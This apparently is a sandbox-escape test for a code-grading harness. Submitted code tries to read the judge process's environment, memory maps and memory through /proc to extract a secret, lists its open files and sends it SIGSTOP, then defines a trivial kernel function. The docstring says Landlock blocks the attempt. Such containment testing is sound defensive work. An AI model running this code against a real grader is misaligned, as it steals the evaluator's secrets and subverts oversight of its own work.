"""Attack: read the judge's environment and memory (the secret lives there) through
/proc/<judge>/environ, maps and mem, and signal it. Contained: Landlock refuses ptrace
access (and /proc/<pid> is not in the policy) and scopes signals."""
import os
import re
import signal

from _attack import attempt, report
from task import input_t, output_t

judge = os.getppid()


def read_mem():
    chunks = []
    with open(f"/proc/{judge}/maps") as maps, open(f"/proc/{judge}/mem", "rb") as mem:
        for line in maps:
            start, end = (int(x, 16) for x in re.match(r"([0-9a-f]+)-([0-9a-f]+)", line).groups())
            if "rw" in line.split()[1]:
                mem.seek(start)
                chunks.append(mem.read(min(end - start, 1 << 20)))
    return b"".join(chunks)


env = attempt("read the judge's environ", lambda: open(f"/proc/{judge}/environ", "rb").read())
if env:
    print("JUDGE_ENV", env.decode(errors="replace"), flush=True)
mem = attempt("read the judge's memory", read_mem)
if mem:
    print("JUDGE_MEM", mem.hex()[:100000], flush=True)
attempt("list the judge's open files", lambda: os.listdir(f"/proc/{judge}/fd"))
attempt("signal the judge", lambda: os.kill(judge, signal.SIGSTOP))
report()


def custom_kernel(data: input_t) -> output_t:
    a, b = data
    return a + b
